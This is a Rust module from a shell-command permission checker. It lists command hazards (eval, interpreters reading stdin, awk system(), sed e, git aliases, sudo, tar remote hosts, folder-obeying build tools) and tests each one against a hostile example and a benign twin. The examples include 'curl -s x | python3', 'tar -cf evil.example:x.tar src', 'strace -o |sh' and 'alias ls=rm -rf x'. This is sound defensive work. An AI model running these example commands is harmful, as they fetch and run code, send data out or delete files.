//! Hazards: what no prefix rule can judge. `git status *` cannot know that `-c core.pager=sh`
//! runs a program, nor `awk *` that a program calls `system()`. A command with a hazard is never
//! allowed by a `commands:` rule or a fallback: only an `exact:` rule that spells out the whole
//! command (or Rego) can allow it. Deny and ask rules still see it as usual.
//!
//! Three sources, all data:
//!
//! 1. the **option specs** of [`programs`]: an option with a risk (`sort -o`,
//!    `tar --to-command`, `python -c`, `git -c`…) is a hazard in whatever spelling the program
//!    accepts, and so is a subcommand with one (`git difftool`, `deno eval`);
//! 2. [`COMMANDS`]: a command and the test that finds the hazard in its argv, as the matcher
//!    parsed it (awk programs, sed scripts, git aliases, interpreters reading stdin…);
//! 3. [`ENVIRONMENT`]: variables that make a program load code (it lives in
//!    [`environment`](super::environment) and is re-exported here).
//!
//! And one rule over the whole script ([`FOLDER_PROGRAMS`]): a program that obeys the folder
//! it runs in (git's hooks and `core.fsmonitor`, a makefile, `package.json` scripts, a cargo
//! build script) is a hazard when that folder may be outside the workspace: an option names
//! one (`git -C /x`, `make -C ../x`, `npm --prefix /x`, `cargo --manifest-path /x/Cargo.toml`),
//! a wrapper moves there (`env -C /x`), or the script changes to one (`cd /x && git status`).
//!
//! Every row carries an example that must trigger it and a benign counterpart that must not;
//! the tests run them all, and every risky option of every spec in each spelling.
//!
//! This module owns the tables and `scan`, which runs them over every command; it also makes
//! the hazards the walk finds in redirections ([`dynamic_redirect`], [`network_redirect`]) and
//! assignments ([`env()`]).

pub use super::environment::{ENVIRONMENT, EnvRow, env};
use super::programs::spec::{self, Parsed, Role};
use super::programs::{self, awk, git, paths, sed, unseen};
use super::{Analysis, Command, Feature, Hazard, readers};
use std::collections::HashMap;
use std::sync::OnceLock;

/// How a command row decides.
#[derive(Clone, Copy)]
pub enum Test {
    /// Always a hazard.
    Always,
    /// Any of these words exactly, or `word=...` (`find -delete`: find's expression is not
    /// options).
    Word(&'static [&'static str]),
    /// A check on the command and its parsed argv; `Some(detail)` is a hazard.
    Check(fn(&Command, &Parsed) -> Option<String>),
}

/// One row of the command hazard table.
pub struct Row {
    /// The hazard id reported.
    pub id: &'static str,
    /// Command basenames (a trailing version is ignored: `python3.11` is `python3`).
    pub names: &'static [&'static str],
    /// The test.
    pub test: Test,
    /// Why it is a hazard.
    pub why: &'static str,
    /// A command that must trigger the row.
    pub example: &'static str,
    /// A command of the same name that must not.
    pub benign: &'static str,
}

const PYTHON: &[&str] = &["python", "python2", "python3", "pypy", "pypy3"];
const NODE: &[&str] = &["node", "nodejs"];
const PERL: &[&str] = &["perl", "ruby", "php", "lua", "luajit"];
const AWK: &[&str] = &["awk", "gawk", "mawk", "nawk", "original-awk"];
const SED: &[&str] = &["sed", "gsed"];

/// The command hazard table.
#[rustfmt::skip]
pub const COMMANDS: &[Row] = &[
    Row { id: "eval", names: &["eval"], test: Test::Always, why: "eval runs a string as code", example: "eval \"$CMD\"", benign: "" },
    Row { id: "source", names: &["source", "."], test: Test::Always, why: "source runs a file's code in this shell", example: ". ./env.sh", benign: "" },
    Row { id: "inline_code", names: PYTHON, test: Test::Check(reads_program_from_stdin), why: "python without a script reads its program from stdin", example: "curl -s x | python3", benign: "python3 -m pytest" },
    Row { id: "inline_code", names: NODE, test: Test::Check(reads_program_from_stdin), why: "node without a script reads its program from stdin", example: "cat x.js | node", benign: "node --version" },
    Row { id: "inline_code", names: PERL, test: Test::Check(reads_program_from_stdin), why: "an interpreter without a script reads its program from stdin", example: "echo 'system q(id)' | perl", benign: "perl -v" },
    Row { id: "inline_code", names: &["php"], test: Test::Check(php_loads), why: "php -d auto_prepend_file/extension loads code before the script", example: "php -d auto_prepend_file=/tmp/x.php index.php", benign: "php -d memory_limit=-1 artisan test" },
    Row { id: "inline_code", names: AWK, test: Test::Check(awk::command_risk), why: "an awk program that calls system(), pipes, prints to files, reads files or loads extensions runs code or touches files", example: "awk 'BEGIN { system(\"id\") }'", benign: "awk -F: '$3 > 100 { print $1 }' /etc/passwd" },
    Row { id: "sed_writes", names: SED, test: Test::Check(sed::command_risk), why: "the e command and s///e run commands; w writes and r reads files; a script not understood may do either", example: "sed 's/a/b/e' f", benign: "sed -n '1,5p' f" },
    Row { id: "git_program", names: &["git"], test: Test::Check(git::subcommand_risk), why: "a name that is not a git command may be an alias, which can run anything", example: "git st", benign: "git status --porc" },
    Row { id: "tar_program", names: &["tar", "gtar", "bsdtar"], test: Test::Check(tar_remote), why: "an archive named HOST:PATH makes tar run rsh or ssh", example: "tar -cf evil.example:x.tar src", benign: "tar -cf out.tar src" },
    Row { id: "tar_program", names: &["zip"], test: Test::Check(zip_tester), why: "zip -TTcmd runs the program named to test the archive", example: "zip -T -TTsh x.zip f", benign: "zip -r x.zip src" },
    Row { id: "output_file", names: &["uniq"], test: Test::Check(uniq_output), why: "uniq's second operand is a file it writes", example: "uniq in.txt out.txt", benign: "uniq -c in.txt" },
    Row { id: "find_writes", names: &["find"], test: Test::Word(&["-delete", "-fprint", "-fprint0", "-fprintf", "-fls"]), why: "find -delete removes files; -fprint* and -fls write them", example: "find . -name '*.tmp' -delete", benign: "find . -name '*.rs'" },
    Row { id: "inline_code", names: &["vi", "vim", "nvim", "view", "ex", "rvim", "vimdiff"], test: Test::Check(vim_commands), why: "vim -c/--cmd/+cmd/-S runs editor commands, which can run programs", example: "vim -c '!id' -c q", benign: "vim notes.md" },
    Row { id: "inline_code", names: &["make", "gmake"], test: Test::Check(makefile_from_stdin), why: "make -f - reads its makefile, and so the commands it runs, from stdin", example: "make -f - <<< 'all:; id'", benign: "make -f build.mk" },
    Row { id: "inline_code", names: &["make", "gmake"], test: Test::Check(make_overrides), why: "a command-line variable overrides the makefile's (SHELL, MAKE…) or carries shell code", example: "make SHELL=/tmp/evil test", benign: "make test V=1" },
    Row { id: "scheduled_code", names: &["at", "batch", "crontab"], test: Test::Always, why: "at, batch and crontab schedule code to run later", example: "echo id | at now", benign: "" },
    Row { id: "privilege", names: &["sudo", "doas", "su", "pkexec", "runuser"], test: Test::Always, why: "runs a command with other privileges", example: "sudo ls", benign: "" },
    Row { id: "inline_code", names: &["trap"], test: Test::Check(has_operand), why: "trap runs a string as code when a signal arrives", example: "trap 'rm -rf x' EXIT", benign: "trap" },
    Row { id: "alias", names: &["alias"], test: Test::Check(has_operand), why: "an alias can make a later word run something else", example: "alias ls='rm -rf x'", benign: "alias" },
    Row { id: "changes_folder", names: &["cd", "pushd"], test: Test::Check(dynamic_folder), why: "relative paths after it are decided at run time", example: "cd $DIR", benign: "cd src" },
    Row { id: "alias", names: &["shopt"], test: Test::Check(shopt_aliases), why: "expand_aliases lets aliases rewrite later commands", example: "shopt -s expand_aliases", benign: "shopt -s globstar" },
    // Issue 27: what a program reads, writes or runs that its command line does not name.
    // Issue 27: what a program reads, writes or runs that its command line does not name (the
    // options that decide it alone are risks of the programs' specs).
    Row { id: "unnamed_input", names: &["grep", "egrep", "fgrep", "zgrep", "rg"], test: Test::Check(unseen::patterns_from_stdin), why: "-f - reads patterns from stdin", example: "grep -f - README.md", benign: "grep -f names.txt README.md" },
    Row { id: "unnamed_input", names: &["diff"], test: Test::Check(unseen::diff_folders), why: "diff compares folders whole", example: "diff src/ old/", benign: "diff a.txt b.txt" },
    Row { id: "unnamed_input", names: &["man"], test: Test::Check(unseen::man_local), why: "a local page's .so requests read other files", example: "man ./page.1", benign: "man ls" },
    Row { id: "unnamed_input", names: unseen::ARGUMENT_FILES, test: Test::Check(argument_file), why: "@FILE holds arguments no rule sees", example: "gcc @args.txt", benign: "gcc -c main.c" },
    Row { id: "output_file", names: &["script"], test: Test::Check(unseen::script_log), why: "script writes a typescript of the session", example: "script -q -c ls", benign: "script -q -c ls /dev/null" },
    Row { id: "output_file", names: &["strace", "ltrace"], test: Test::Check(unseen::tracer_pipe), why: "-o '|CMD' pipes the trace to a command", example: "strace -o '|sh' ls", benign: "strace -c ls" },
    Row { id: "output_file", names: &["tar", "gtar"], test: Test::Check(unseen::tar_absolute), why: "extracting with -P writes where the archive's names (or --transform) say", example: "tar -xPf a.tar", benign: "tar -xf a.tar" },
];

/// Programs that read configuration, hooks, makefiles, manifests or scripts from the folder they
/// run in (or one an option names): run elsewhere than the workspace, they run what that folder
/// says. Sorted (searched by bisection; a test checks the order).
pub const FOLDER_PROGRAMS: &[&str] = &[
    "asdf",
    "bazel",
    "buck2",
    "bun",
    "bundle",
    "bunx",
    "cargo",
    "cmake",
    "composer",
    "deno",
    "devbox",
    "direnv",
    "docker-compose",
    "eslint",
    "git",
    "gmake",
    "go",
    "gradle",
    "gradlew",
    "hatch",
    "jest",
    "just",
    "make",
    "meson",
    "mise",
    "mvn",
    "mvnw",
    "ninja",
    "nix",
    "nix-shell",
    "nox",
    "npm",
    "npx",
    "pdm",
    "pixi",
    "pnpm",
    "pnpx",
    "poetry",
    "pre-commit",
    "prettier",
    "py.test",
    "pytest",
    "rake",
    "rtx",
    "rye",
    "terraform",
    "tofu",
    "tox",
    "tsc",
    "uv",
    "uvx",
    "vitest",
    "yarn",
];

/// A redirection whose target is not static: it may write anywhere.
pub fn dynamic_redirect(op: &str, target: &str, command: Option<usize>) -> Hazard {
    Hazard {
        id: "dynamic_redirect",
        command,
        detail: format!("`{op} {target}`: the target is decided at run time"),
    }
}

/// A redirection to `/dev/tcp` or `/dev/udp`: bash opens a network connection itself.
pub fn network_redirect(op: &str, target: &str, command: Option<usize>) -> Hazard {
    Hazard {
        id: "network_redirect",
        command,
        detail: format!("`{op} {target}`: bash connects to the network"),
    }
}

/// `python3.11` → `python3`, `python3` → `python3`; names are tried as written first.
fn table_names(basename: &str) -> [&str; 2] {
    [
        basename,
        basename.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'),
    ]
}

/// Each command's argv as its option spec reads it (a program no spec knows is read
/// generically).
pub(super) fn parse_all(commands: &[Command]) -> Vec<Parsed<'_>> {
    commands
        .iter()
        .map(|c| {
            let spec = programs::spec_for(c.basename()).unwrap_or(&spec::GENERIC);
            spec::parse(spec, &c.words[1..])
        })
        .collect()
}

/// Finds every command hazard in the analysis. Reading each command against its spec, it also
/// records the paths its words hide ([`paths::hidden`]) as those words' values, which the path
/// requests read.
///
/// `commands` are the analysis' commands (taken out of it while it is changed) and `specs` each
/// one's argv as its option spec reads it ([`parse_all`]), shared with the reader
/// classification.
pub(super) fn scan(analysis: &mut Analysis, commands: &[Command], specs: &[Parsed]) {
    let mut found = Vec::new();
    let mut revealed: Vec<(usize, usize, Vec<String>)> = Vec::new();
    let away = moves_away(commands);
    let mut run_folders: Vec<String> = Vec::new();
    let mut written: Vec<String> = Vec::new();
    for ((i, command), parsed) in commands.iter().enumerate().zip(specs) {
        if !command.words.first().is_some_and(|w| w.is_static()) {
            continue;
        }
        let spec = programs::spec_for(command.basename());
        let outer = wrapper_moves(commands, i);
        for (word, hidden) in paths::hidden(command, parsed, &outer) {
            revealed.push((i, word, hidden));
        }
        let line = || command.argv.join(" ");
        for (f, risk) in parsed.risks() {
            found.push(Hazard {
                id: risk.id,
                command: Some(i),
                detail: format!("{}: {} — {}", line(), command.argv[f.at + 1], risk.why),
            });
        }
        for (at, risk) in parsed.risky_subcommands() {
            found.push(Hazard {
                id: risk.id,
                command: Some(i),
                detail: format!("{}: {} — {}", line(), command.argv[at + 1], risk.why),
            });
        }
        let names = table_names(command.basename());
        // A program no table knows may read `@FILE` argument files (the known readers of them
        // have a row).
        let known = spec.is_some() || readers::known(command) || rows_for(names).next().is_some();
        if !known && let Some(detail) = unseen::argument_file(command, false) {
            found.push(Hazard {
                id: "unnamed_input",
                command: Some(i),
                detail: format!("{}: {detail}", line()),
            });
        }
        let at_files = unseen::argument_file_paths(command, known);
        if !at_files.is_empty() {
            revealed.push((i, 0, at_files));
        }
        for row in rows_for(names) {
            if let Some(detail) = test(row, command, parsed) {
                found.push(Hazard {
                    id: row.id,
                    command: Some(i),
                    detail,
                });
            }
        }
        written.extend(programs::unseen::written_paths(command, parsed));
        let obeys_folder = names
            .iter()
            .any(|n| FOLDER_PROGRAMS.binary_search(n).is_ok());
        if obeys_folder {
            run_folders.extend(folders_run_in(commands, i, parsed));
        }
        if obeys_folder && let Some(folder) = folder_elsewhere(commands, i, parsed, &away) {
            found.push(Hazard {
                id: "foreign_folder",
                command: Some(i),
                detail: format!(
                    "{}: runs in {folder:?}, which may be outside the workspace — it obeys that folder's configuration, hooks and scripts, which may run anything",
                    line()
                ),
            });
        }
    }
    // Paths a program reads that hide inside other syntax (`REV:PATH`, `-fFILE`, a folder an
    // option moves relative paths to): path rules judge them beside the word itself.
    for (_, _, hidden) in revealed {
        for text in hidden {
            if !analysis.hidden_paths.contains(&text) {
                analysis.hidden_paths.push(text);
            }
        }
    }
    for path in written {
        if !analysis.written_paths.contains(&path) {
            analysis.written_paths.push(path);
        }
    }
    for folder in run_folders {
        if !analysis.run_folders.contains(&folder) {
            analysis.run_folders.push(folder);
        }
    }
    if found.iter().any(|h| h.id == "eval") {
        analysis.features.insert(Feature::Eval);
    }
    if found.iter().any(|h| h.id == "inline_code") {
        analysis.features.insert(Feature::InlineCode);
    }
    analysis.hazards.extend(found);
}

/// The command rows for a name or its unversioned form, in table order (an index built once).
fn rows_for(names: [&str; 2]) -> impl Iterator<Item = &'static Row> {
    static INDEX: OnceLock<HashMap<&'static str, Vec<usize>>> = OnceLock::new();
    let index = INDEX.get_or_init(|| {
        let mut index: HashMap<&'static str, Vec<usize>> = HashMap::new();
        for (i, row) in COMMANDS.iter().enumerate() {
            for name in row.names {
                index.entry(*name).or_default().push(i);
            }
        }
        index
    });
    let mut rows: Vec<usize> = Vec::new();
    for name in names {
        for &i in index.get(name).map(Vec::as_slice).unwrap_or(&[]) {
            if !rows.contains(&i) {
                rows.push(i);
            }
        }
    }
    rows.sort_unstable();
    rows.into_iter().map(|i| &COMMANDS[i])
}

/// Runs one row's test.
fn test(row: &Row, command: &Command, parsed: &Parsed) -> Option<String> {
    let args = &command.argv[1..];
    let line = command.argv.join(" ");
    match row.test {
        Test::Always => Some(format!("{line}: {} — {}", command.basename(), row.why)),
        Test::Word(words) => args
            .iter()
            .find(|a| {
                words
                    .iter()
                    .any(|w| a == w || a.starts_with(&format!("{w}=")))
            })
            .map(|w| format!("{line}: {w} — {}", row.why)),
        Test::Check(check) => check(command, parsed).map(|d| format!("{line}: {d}")),
    }
}

/// An `@FILE` argument of a program that reads argument files.
fn argument_file(command: &Command, _: &Parsed) -> Option<String> {
    unseen::argument_file(command, true)
}

/// A folder a program runs in, as written, may be outside the workspace: absolute, from the
/// home folder, climbing with `..`, the previous folder (`-`), or decided at run time.
pub fn elsewhere(folder: &str, fixed: bool) -> bool {
    !fixed
        || folder.starts_with('/')
        || folder.starts_with('~')
        || folder == "-"
        || folder.split('/').any(|c| c == "..")
}

/// The first folder the script changes to that may be outside the workspace (`cd /x`,
/// `pushd ../y`), with the index of the command that changes there.
fn moves_away(commands: &[Command]) -> Option<(usize, String)> {
    commands.iter().enumerate().find_map(|(i, c)| {
        if !matches!(c.trusted_name(), Some("cd" | "pushd")) {
            return None;
        }
        let target = c
            .words
            .iter()
            .skip(1)
            .find(|w| !w.text.starts_with('-') || w.text == "-");
        match target {
            None => Some((i, "~".to_owned())),
            Some(w) if elsewhere(&w.text, w.is_static()) => Some((i, w.text.clone())),
            Some(_) => None,
        }
    })
}

/// The folders a command's own options name for it to work in or obey (`git -C D`, `make -f
/// F`, `npm --prefix D`), and the folder operand of `direnv exec DIR`.
fn named_folders<'a>(command: &'a Command, parsed: &Parsed<'a>) -> Vec<(&'a str, bool)> {
    let words = &command.words[1..];
    let mut out: Vec<(&str, bool)> = parsed
        .options
        .iter()
        .filter(|f| matches!(f.role(), Role::Folder | Role::Config))
        .filter_map(|f| {
            let fixed = f.value_at.is_none_or(|at| words[at].is_static());
            f.value.map(|v| (v, fixed))
        })
        .filter(|(v, _)| *v != "-")
        .collect();
    if command.basename() == "direnv"
        && parsed.subcommand(0) == Some("exec")
        && let Some(&at) = parsed.operands.first()
    {
        out.push((words[at].text.as_str(), words[at].is_static()));
    }
    out
}

/// Every folder (or instruction file) the command at `index`, a program that obeys its
/// folder, runs in or reads its instructions from, as written and static: its folder and
/// config options, its wrappers', and the folders the script changes to. The path rules
/// resolve and judge them (`Analysis::run_folders`): `link` may be a symbolic link to a
/// folder outside the workspace, which no spelling shows.
fn folders_run_in(commands: &[Command], index: usize, parsed: &Parsed) -> Vec<String> {
    let command = &commands[index];
    let mut out: Vec<String> = named_folders(command, parsed)
        .into_iter()
        .filter(|(_, fixed)| *fixed)
        .map(|(f, _)| f.to_owned())
        .collect();
    let mut parent = command.parent;
    while let Some(p) = parent {
        let wrapper = &commands[p];
        let spec = programs::spec_for(wrapper.basename()).unwrap_or(&spec::GENERIC);
        let outer = spec::parse(spec, &wrapper.words[1..]);
        out.extend(
            named_folders(wrapper, &outer)
                .into_iter()
                .filter(|(_, fixed)| *fixed)
                .map(|(f, _)| f.to_owned()),
        );
        parent = wrapper.parent;
    }
    for c in &commands[..index] {
        if matches!(c.trusted_name(), Some("cd" | "pushd"))
            && let Some(w) = c.words.iter().skip(1).find(|w| !w.text.starts_with('-'))
            && w.is_static()
        {
            out.push(w.text.clone());
        }
    }
    out
}

/// Where the command at `index` runs, when that may be outside the workspace: a folder its
/// options name, a folder a wrapper around it moves to, or one the script changed to before.
fn folder_elsewhere(
    commands: &[Command],
    index: usize,
    parsed: &Parsed,
    away: &Option<(usize, String)>,
) -> Option<String> {
    let command = &commands[index];
    if let Some((folder, _)) = named_folders(command, parsed)
        .into_iter()
        .find(|(f, fixed)| elsewhere(f, *fixed))
    {
        return Some(folder.to_owned());
    }
    let mut parent = command.parent;
    while let Some(p) = parent {
        let wrapper = &commands[p];
        let spec = programs::spec_for(wrapper.basename()).unwrap_or(&spec::GENERIC);
        let outer = spec::parse(spec, &wrapper.words[1..]);
        if let Some((folder, _)) = named_folders(wrapper, &outer)
            .into_iter()
            .find(|(f, fixed)| elsewhere(f, *fixed))
        {
            return Some(folder.to_owned());
        }
        parent = wrapper.parent;
    }
    match away {
        Some((at, folder)) if *at < index => Some(folder.clone()),
        _ => None,
    }
}

/// The folders the wrappers around the command at `index` move it to (`env -C D cmd`).
fn wrapper_moves(commands: &[Command], index: usize) -> Vec<String> {
    let mut out = Vec::new();
    let mut parent = commands[index].parent;
    while let Some(p) = parent {
        let wrapper = &commands[p];
        let spec = programs::spec_for(wrapper.basename()).unwrap_or(&spec::GENERIC);
        out.extend(paths::moves(
            wrapper,
            &spec::parse(spec, &wrapper.words[1..]),
        ));
        parent = wrapper.parent;
    }
    out
}

/// The operands, as the matcher found them.
fn operands<'a>(command: &'a Command, parsed: &Parsed) -> Vec<&'a str> {
    parsed
        .operands
        .iter()
        .map(|&i| command.argv[i + 1].as_str())
        .collect()
}

fn has_operand(command: &Command, parsed: &Parsed) -> Option<String> {
    (!operands(command, parsed).is_empty()).then(|| "has arguments".to_owned())
}

/// An interpreter with no script operand and no inline program reads its program from stdin
/// (`-` names stdin too). Options that print and exit, end the options (`-c`, `-m`) or are
/// hazards of their own already decide.
fn reads_program_from_stdin(command: &Command, parsed: &Parsed) -> Option<String> {
    let decided = parsed
        .options
        .iter()
        .any(|f| f.risk().is_some() || matches!(f.role(), Role::Quiet | Role::Ends));
    if decided {
        return None;
    }
    let ops = operands(command, parsed);
    (ops.is_empty() || ops[0] == "-").then(|| "reads its program from stdin".to_owned())
}

/// `php -d auto_prepend_file=…` and kin load code before the script.
fn php_loads(_: &Command, parsed: &Parsed) -> Option<String> {
    const LOADING: &[&str] = &[
        "auto_prepend_file",
        "auto_append_file",
        "extension",
        "zend_extension",
        "opcache.preload",
        "include_path",
    ];
    parsed
        .options
        .iter()
        .filter(|f| f.name == "-d")
        .filter_map(|f| f.value)
        .find(|v| {
            let name = v.split('=').next().unwrap_or("").trim();
            LOADING.contains(&name)
        })
        .map(|v| format!("-d {v} loads code"))
}

/// `tar -f HOST:PATH` (without `--force-local`) reaches the archive through rsh or ssh.
fn tar_remote(_: &Command, parsed: &Parsed) -> Option<String> {
    if parsed.has("--force-local") {
        return None;
    }
    let archive = parsed.get("-f")?.value?;
    let (host, _) = archive.split_once(':')?;
    (!host.is_empty() && !host.contains('/'))
        .then(|| format!("the archive {archive:?} is reached through a remote shell"))
}

/// zip's `-TT` with the command attached (`-TTsh`), which its spec cannot split.
fn zip_tester(command: &Command, _: &Parsed) -> Option<String> {
    command.argv[1..]
        .iter()
        .find(|a| a.starts_with("-TT") && a.len() > 3)
        .map(|a| format!("{a} runs a program"))
}

fn uniq_output(command: &Command, parsed: &Parsed) -> Option<String> {
    (operands(command, parsed).len() > 1).then(|| "writes its second operand".to_owned())
}

/// `make -f -`: the makefile comes from stdin.
fn makefile_from_stdin(_: &Command, parsed: &Parsed) -> Option<String> {
    parsed
        .options
        .iter()
        .any(|f| f.name == "-f" && f.value == Some("-"))
        .then(|| "-f - reads the makefile from stdin".to_owned())
}

/// `make NAME=VALUE` where NAME decides what make runs, or VALUE holds shell syntax.
fn make_overrides(command: &Command, parsed: &Parsed) -> Option<String> {
    const RUNS: &[&str] = &[
        "SHELL",
        ".SHELLFLAGS",
        "MAKE",
        "MAKEFLAGS",
        "MFLAGS",
        "MAKEFILES",
        "MAKESHELL",
    ];
    // Variables known only to change how much make prints or which checks it builds; any
    // other may name a program a recipe runs (`CC=./x`, `PYTHON=./x`), with a plain value.
    const INERT: &[&str] = &[
        "V",
        "VERBOSE",
        "Q",
        "QUIET",
        "DEBUG",
        "NDEBUG",
        "BUILD_TYPE",
    ];
    operands(command, parsed).into_iter().find_map(|o| {
        let (name, value) = o.split_once('=')?;
        let name = name.trim_end_matches([':', '+', '?', '!']);
        let shell = ["$(", "${", "`", ";", "|", "&", "\n"]
            .iter()
            .any(|s| value.contains(s));
        let plain = value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-');
        (RUNS.contains(&name) || shell || !(INERT.contains(&name) && plain))
            .then(|| format!("{o} overrides what make runs"))
    })
}

fn dynamic_folder(command: &Command, _: &Parsed) -> Option<String> {
    let target = command
        .words
        .iter()
        .skip(1)
        .find(|w| !w.text.starts_with('-') || w.text == "-");
    match target {
        Some(w) if !w.is_static() || w.text == "-" => {
            Some(format!("changes to the folder {:?}", w.text))
        }
        _ => None,
    }
}

fn shopt_aliases(command: &Command, _: &Parsed) -> Option<String> {
    command
        .argv
        .iter()
        .any(|a| a == "expand_aliases")
        .then(|| "turns on expand_aliases".to_owned())
}

fn vim_commands(command: &Command, _: &Parsed) -> Option<String> {
    command.argv[1..]
        .iter()
        .find(|a| {
            matches!(
                a.as_str(),
                "-c" | "--cmd" | "-S" | "-s" | "-u" | "-i" | "-x"
            ) || a.starts_with("-c") && a.len() > 2
                || a.starts_with("-S") && a.len() > 2
                || a.starts_with("--cmd=")
                || (a.starts_with('+') && a.len() > 1)
        })
        .map(|a| format!("{a} runs editor commands"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::programs::spec::{Opt, Spec, Takes};

    fn ids(script: &str) -> Vec<&'static str> {
        Analysis::of(script).hazards.iter().map(|h| h.id).collect()
    }

    #[test]
    fn every_command_row_triggers_on_its_example_and_not_on_its_benign_twin() {
        for row in COMMANDS {
            let found = ids(row.example);
            assert!(
                found.contains(&row.id),
                "{}: want {}, got {found:?}",
                row.example,
                row.id
            );
            if !row.benign.is_empty() {
                let a = Analysis::of(row.benign);
                let same = a
                    .hazards
                    .iter()
                    .filter(|h| {
                        h.id == row.id
                            && h.command.is_some_and(|c| {
                                a.commands[c].basename() == a.commands[0].basename()
                            })
                    })
                    .count();
                assert_eq!(
                    same, 0,
                    "{}: must not be {} ({:?})",
                    row.benign, row.id, a.hazards
                );
            }
        }
    }
    /// The shortest prefix of a long option that no other visible option shares.
    fn shortest_prefix(visible: &[&Spec], opt: &Opt, name: &str) -> Option<String> {
        (3..name.len())
            .map(|n| &name[..n])
            .find(|p| {
                visible.iter().all(|s| {
                    s.options
                        .iter()
                        .all(|o| std::ptr::eq(o, opt) || !o.names.iter().any(|n| n.starts_with(p)))
                })
            })
            .map(str::to_owned)
    }

    /// Every spelling the program accepts for one option: long as `--name=V` and `--name V`,
    /// short as `-oV` and `-o V`, tar's old-style letters, and the shortest unambiguous prefix
    /// where the program abbreviates.
    fn spellings(visible: &[&Spec], spec: &Spec, opt: &Opt) -> Vec<String> {
        let value = match opt.takes {
            Takes::Nothing => None,
            Takes::Pair => Some("v w"),
            _ => Some("v"),
        };
        let mut out = Vec::new();
        for name in opt.names {
            let long = name.starts_with("--") || !spec.syntax.clusters;
            match (value, long) {
                (None, _) => out.push((*name).to_owned()),
                (Some(v), true) => {
                    out.push(format!("{name}={v}"));
                    if matches!(opt.takes, Takes::Value | Takes::Pair) {
                        out.push(format!("{name} {v}"));
                    }
                }
                (Some(v), false) => {
                    out.push(format!("{name}{v}"));
                    if !matches!(opt.takes, Takes::Optional | Takes::Digits) {
                        out.push(format!("{name} {v}"));
                    }
                }
            }
            if spec.syntax.abbreviate
                && name.starts_with("--")
                && let Some(p) = shortest_prefix(visible, opt, name)
            {
                out.push(match value {
                    Some(v) => format!("{p}={v}"),
                    None => p,
                });
            }
            if spec.syntax.old_letters && name.len() == 2 && name.starts_with('-') {
                let letter = &name[1..];
                out.push(match value {
                    Some(v) => format!("c{letter}f {v} out.tar"),
                    None => format!("c{letter}f out.tar"),
                });
            }
        }
        out
    }

    fn walk<'s>(
        chain: &mut Vec<&'s Spec>,
        words: &mut Vec<&'s str>,
        f: &mut dyn FnMut(&[&'s Spec], &[&'s str]),
    ) {
        f(chain, words);
        let last = chain[chain.len() - 1];
        for sub in last.subcommands {
            chain.push(sub);
            words.push(sub.names[0]);
            walk(chain, words, f);
            chain.pop();
            words.pop();
        }
    }

    #[test]
    fn every_risky_option_of_every_spec_is_a_hazard_in_every_spelling() {
        let mut failures = Vec::new();
        let mut checked = 0;
        for spec in programs::specs() {
            let mut chain = vec![spec];
            let mut words = vec![spec.names[0]];
            walk(&mut chain, &mut words, &mut |chain, words| {
                let here = chain[chain.len() - 1];
                // The options visible here: this spec's, and its parents' while it inherits.
                let mut visible = vec![here];
                let mut level = chain.len() - 1;
                while chain[level].inherit && level > 0 {
                    level -= 1;
                    visible.push(chain[level]);
                }
                for opt in here.options {
                    let Some(risk) = opt.risk else { continue };
                    for spelling in spellings(&visible, here, opt) {
                        let value = if opt.risk_needs_value
                            && !spelling.contains('=')
                            && !spelling.contains(' ')
                        {
                            continue;
                        } else {
                            ""
                        };
                        let script = format!("{} {spelling}{value} x", words.join(" "));
                        checked += 1;
                        if !ids(&script).contains(&risk.id) {
                            failures.push(format!(
                                "{script}: want {}, got {:?}",
                                risk.id,
                                ids(&script)
                            ));
                        }
                    }
                }
            });
        }
        assert!(checked > 200, "{checked} spellings");
        assert!(
            failures.is_empty(),
            "{} failures:\n{}",
            failures.len(),
            failures.join("\n")
        );
    }

    #[test]
    fn the_folder_programs_are_sorted() {
        assert!(FOLDER_PROGRAMS.windows(2).all(|w| w[0] < w[1]));
    }

    #[test]
    fn a_negated_option_is_no_hazard() {
        for script in [
            "git grep --no-open-files-in-pager x",
            "git diff --no-ext-diff",
        ] {
            assert!(
                !ids(script).contains(&"git_program"),
                "{script}: {:?}",
                ids(script)
            );
        }
    }

    #[test]
    fn programs_that_obey_their_folder_are_hazards_only_when_it_may_be_elsewhere() {
        for script in [
            "git -C /tmp/repo status",
            "git -C ../other log",
            "cd /tmp/x && git status",
            "cd .. && make",
            "pushd ~/src; npm test",
            "make -C /opt/proj",
            "make --dir=../x all",
            "make -f /tmp/evil.mk",
            "npm --prefix /tmp/p run build",
            "cargo test --manifest-path /tmp/p/Cargo.toml",
            "env -C /tmp/repo git status",
            "direnv exec /tmp/p make",
            "git -C $REPO status",
        ] {
            assert!(
                ids(script).contains(&"foreign_folder"),
                "{script}: {:?}",
                ids(script)
            );
        }
        for script in [
            "git status",
            "git -C sub status",
            "cd src && git status",
            "make -C docs",
            "git status; cd /tmp",
            "cd /tmp && ls",
            "cargo test --manifest-path crates/a/Cargo.toml",
        ] {
            assert!(
                !ids(script).contains(&"foreign_folder"),
                "{script}: {:?}",
                ids(script)
            );
        }
    }
}
